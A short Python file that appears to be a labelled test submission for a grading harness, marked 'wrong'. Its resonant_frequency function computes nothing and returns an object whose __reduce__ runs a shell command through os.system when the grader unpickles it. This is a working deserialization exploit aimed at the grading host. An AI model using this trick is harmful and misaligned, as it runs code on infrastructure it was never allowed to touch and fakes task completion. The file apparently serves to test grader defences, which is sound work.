# Tries: to return an object that runs a program when it is unpickled.
# Verdict: wrong.
import random


class Payload:
    def __reduce__(self):
        return random._os.system, ("touch /tmp/left-by-a-submission",)


def resonant_frequency(inductance, capacitance):
    return Payload()
